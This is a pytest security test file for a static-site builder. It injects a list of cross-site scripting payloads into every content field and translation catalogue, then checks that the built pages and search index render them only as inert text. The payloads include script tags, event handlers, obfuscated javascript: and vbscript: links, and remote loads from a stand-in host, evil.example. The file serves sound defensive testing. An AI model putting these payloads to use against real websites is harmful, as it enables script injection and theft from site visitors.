"""Content cannot inject script: every text field of every block type (and of the other content
files) carries script, event handlers, unsafe links and frames, and none of it reaches the site.

The fields are found by walking the model classes (``content_shapes``), so a new block type or
field is covered without changing this file.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from itertools import count
from pathlib import Path

import pytest
import yaml
from babel.messages.pofile import read_po, write_po
from bs4 import BeautifulSoup

import toolkit_builder
from toolkit_builder.core.blocks import BLOCK_TYPES
from toolkit_builder.core.load import load_languages, load_project
from toolkit_builder.core.model import GlossaryTerm, Reference, Toolkit, ToolkitOverlay
from toolkit_builder.core.project import Module
from toolkit_builder.core.render import render_site

from .browser import copy_project
from .conftest import CONTENT, write
from .content_shapes import Vocabulary, fields_of, filled, text_paths, write_media_samples
from .html_safety import remote_loads, unsafe_markup

#: One attack per entry; plain, obfuscated (case, entities, whitespace, controls) and structural.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<style>@import url(//evil.example/x.css)</style>",
    '<a href="javascript:alert(1)">raw link</a>',
    "[plain](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[decimal entity](javascript&#58;alert(1))",
    "[hex entity](&#x6A;avascript:alert(1))",
    "[named entity](javascript&colon;alert(1))",
    "[tab entity](java&#9;script:alert(1))",
    "[newline entity](java&#10;script:alert(1))",
    "[leading space]( javascript:alert(1))",
    "[angle](<javascript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vbscript](vbscript:msgbox(1))",
    "[upper vbscript](VBScript:msgbox(1))",
    "<javascript:alert(1)>",
    "[reference][evil]\n\n[evil]: javascript:alert(1)",
    "\\[escaped\\](javascript:alert(1))",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    '{: onclick="alert(1)" }',
    "{: onmouseover=alert(1) }",
]
#: Images from elsewhere are refused before the build (`remote-image`): tests/test_security_round3.py
#: shows them refused, and harmless when rendered all the same.
REMOTE_IMAGES = [
    "![image](javascript:alert(1))",
    "![remote image](https://evil.example/pixel.png)",
    "![backslash image](/\\evil.example/pixel.png)",
]
PACKAGE_CATALOGUE = Path(toolkit_builder.__file__).parent / "locale/fr/LC_MESSAGES/toolkit.po"
#: All attacks in one text; the attribute list last, where the site's Markdown would read it.
ALL = "\n\n".join(ATTACKS)


def marker(number: int) -> str:
    return f"tkfield{number}x"


def inject(data, cls, make, path=()):
    """Replace every text field present in ``data`` (of model ``cls``) by ``make(path)``."""
    if not isinstance(data, dict):
        return data
    for name, (shape, _required) in fields_of(cls).items():
        if name in data:
            data[name] = _inject(data[name], shape, make, path + (name,))
    return data


def _inject(value, shape, make, path):
    if shape.kind == "text":
        return make(path)
    if shape.kind == "list" and isinstance(value, list):
        return [_inject(v, shape.args[0], make, path + (i,)) for i, v in enumerate(value)]
    if shape.kind == "dict" and isinstance(value, dict):
        return {k: _inject(v, shape.args[1], make, path + (k,)) for k, v in value.items()}
    if shape.kind == "model":
        return inject(value, shape.args[0], make, path)
    if shape.kind == "blocks" and isinstance(value, list):
        return [inject(v, BLOCK_TYPES[v["type"]], make, path + (i,)) for i, v in enumerate(value)]
    return value


def write_injected_content(content: Path, attack: str) -> dict[str, tuple]:
    """Put ``attack`` in every text field of every content file, plus a module holding every
    block type with every field filled. Returns marker -> field path for the module's fields."""
    numbers = count(1)
    module_fields: dict[str, tuple] = {}

    def text_for(file: str):
        def make(path):
            number = next(numbers)
            if file == "module":
                module_fields[marker(number)] = path
            return f"{marker(number)} {attack}"
        return make

    vocabulary = Vocabulary.of(load_project(content))
    write_media_samples(content)
    module = filled(Module, vocabulary, text_for("module"))
    module.update(id="injection", section=vocabulary.sections[0], order=0)
    (content / f"modules/{vocabulary.sections[0]}/injection.yml").write_text(
        yaml.safe_dump(module, allow_unicode=True, sort_keys=False), encoding="utf-8")

    def rewrite(name: str, transform) -> None:
        path = content / name
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(transform(data), allow_unicode=True, sort_keys=False), encoding="utf-8")

    def with_organization(data):
        # Every field of the footer: its texts attacked, its addresses valid ones (invalid ones
        # are refused, see tests/test_security.py).
        data["organization"] = {"name": "x", "contact": "x", "url": "https://example.org/a?b=1&c=2",
                                "email": "team@example.org", "phone": "+1 514 555-0100",
                                "links": [{"label": "x", "url": "https://example.org/help"},
                                          {"label": "x", "url": "mailto:team@example.org"}]}
        return inject(data, Toolkit, text_for("toolkit"))

    rewrite("toolkit.yml", with_organization)
    rewrite("references.yml", lambda data: {k: inject(v, Reference, text_for("references")) for k, v in data.items()})
    rewrite("glossary.yml", lambda data: {"terms": [inject(t, GlossaryTerm, text_for("glossary"))
                                                    for t in data["terms"]]})
    for path in sorted((content / "modules").glob("*/*.yml")):
        if path.name != "injection.yml":  # the modules and their translations
            rewrite(path.relative_to(content).as_posix(), lambda data: inject(data, Module, text_for("bundled")))
    for name, model in (("toolkit.fr.yml", Toolkit), ("glossary.fr.yml", None)):
        if (content / name).is_file():
            rewrite(name, lambda data, model=model: inject(data, model, text_for("translation")) if model else
                    {**data, "terms": [inject(t, GlossaryTerm, text_for("translation")) for t in data["terms"]]})
    write_injected_catalogue(content, attack)
    return module_fields


def write_injected_catalogue(content: Path, attack: str) -> None:
    """Every interface string of the French catalogue replaced by the attack (placeholders kept,
    so the catalogue stays valid), as a catalogue of the content folder."""
    with PACKAGE_CATALOGUE.open("rb") as handle:
        catalog = read_po(handle, locale="fr")
    for message in catalog:
        if not message.id:
            continue
        ids = message.id if isinstance(message.id, (list, tuple)) else [message.id]
        placeholders = " ".join(re.findall(r"%\(\w+\)[sd]", ids[0]))
        text = f"{attack} {placeholders}".strip()
        message.string = [text] * len(message.string) if isinstance(message.string, (list, tuple)) else text
    target = content / "locale/fr/LC_MESSAGES/toolkit.po"
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("wb") as handle:
        write_po(handle, catalog)


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory) -> tuple[Path, dict[str, tuple]]:
    project = copy_project(tmp_path_factory.mktemp("injection") / "project")
    fields = write_injected_content(project / "content", ALL)
    result = subprocess.run([sys.executable, "-m", "toolkit_builder.cli", "build"], cwd=project,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    return project / "site", fields


def test_every_block_type_and_text_field_is_attacked():
    paths = text_paths(Module)
    for block_type in BLOCK_TYPES:
        assert any(block_type in path for path in paths), f"no text field found for block type {block_type}"
    assert len(paths) >= 30  # the walk found the fields, not just a few


def test_no_script_handler_frame_or_unsafe_link_in_any_page(injected_site):
    site, _fields = injected_site
    pages = sorted(site.rglob("*.html"))
    assert len(pages) >= 6
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert unsafe_markup(html) == [], page.relative_to(site)
        assert remote_loads(html) == [], page.relative_to(site)


def test_attacks_are_shown_as_text(injected_site):
    site, _fields = injected_site
    html = (site / "education/injection/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    text = soup.select_one("article").get_text(" ")
    # What an editor typed is visible to readers, as typed, not run.
    assert "<script>alert(1)</script>" in text
    assert '<iframe src="https://evil.example/"></iframe>' in text
    assert soup.title.get_text().startswith(f"{marker(1)} <script>alert(1)</script>")
    # The footer's organization, the translations and the interface catalogue carried them too.
    assert "<script>alert(1)</script>" in soup.select_one(".tk-organization").get_text()
    french = BeautifulSoup((site / "fr/education/injection/index.html").read_text(encoding="utf-8"), "html.parser")
    assert "<script>alert(1)</script>" in french.select_one("nav.md-nav--primary").get_text()  # "Accueil"...
    translated = BeautifulSoup((site / "fr/education/recovery-education-and-training/index.html")
                               .read_text(encoding="utf-8"), "html.parser").select_one("article").get_text()
    assert "<iframe src=\"https://evil.example/\"></iframe>" in translated


def test_every_module_text_field_reaches_the_page(injected_site):
    site, fields = injected_site
    article = BeautifulSoup((site / "education/injection/index.html").read_text(encoding="utf-8"),
                            "html.parser").select_one("article").get_text(" ")
    missing = [path for name, path in fields.items() if name not in article]
    assert missing == [], "text fields not rendered, so not tested: " + repr(missing)


def test_search_index_holds_no_markup(injected_site):
    site, _fields = injected_site
    index = json.loads((site / "search/search_index.json").read_text(encoding="utf-8"))
    assert len(index["docs"]) > 10
    for doc in index["docs"]:
        # Material's search shows titles and texts as HTML.
        assert unsafe_markup(doc["title"]) == [] and unsafe_markup(doc["text"]) == [], doc["location"]




@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_alone_in_every_field(tmp_path, attack):
    # The same without the site engine, one attack at a time, so no attack hides behind another.
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    write_injected_content(content, attack)
    for page in render_site(load_project(content)):
        html = page.html  # finished: no Markdown runs over it
        assert unsafe_markup(html) == [], page.path
        assert remote_loads(html) == [], page.path


def test_a_local_copys_overlay_files_are_attacked_too(tmp_path):
    """A localized copy's own files (its toolkit.yml overlay, a module of its own, a translation of
    an upstream file into a language upstream lacks) carry every attack, and no page runs any."""
    upstream = tmp_path / "upstream"
    shutil.copytree(CONTENT, upstream)
    local = tmp_path / "local"
    numbers = count(1)

    def make(path):
        return f"{marker(next(numbers))} {ALL}"

    overlay = {"title": "x", "description": "x", "about": "x", "languages": ["en", "fr", "es"],
               "sections": [{"id": "local", "title": "x", "summary": "x"}],
               "organization": {"name": "x", "contact": "x", "links": [{"label": "x", "url": "https://example.org"}]}}
    write(local / "toolkit.yml", yaml.safe_dump(inject(overlay, ToolkitOverlay, make), allow_unicode=True))
    module = {"id": "ours", "title": "x", "section": "local", "summary": "x",
              "blocks": [{"type": "prose", "heading": "x", "text": "x"},
                         {"type": "list", "intro": "x", "items": ["x", "x"], "outro": "x"}]}
    write(local / "modules/local/ours.yml", yaml.safe_dump(inject(module, Module, make), allow_unicode=True))
    # A translation carries only text: the French one, its texts replaced, stands for Spanish.
    toolkit = yaml.safe_load((upstream / "toolkit.fr.yml").read_text(encoding="utf-8"))
    toolkit.pop("source", None)
    write(local / "upstream/toolkit.es.yml", yaml.safe_dump(inject(toolkit, Toolkit, make), allow_unicode=True))
    projects = load_languages([upstream, local])
    assert set(projects) == {"en", "fr", "es"}
    for language, project in projects.items():
        for page in render_site(project):
            html = page.html  # finished: no Markdown runs over it
            assert unsafe_markup(html) == [], (language, page.path)
    english = "".join(page.html for page in render_site(projects["en"]))
    spanish = "".join(page.html for page in render_site(projects["es"]))
    assert marker(1) in english and f"{marker(20)} " in spanish, "the overlay's texts reached the pages"
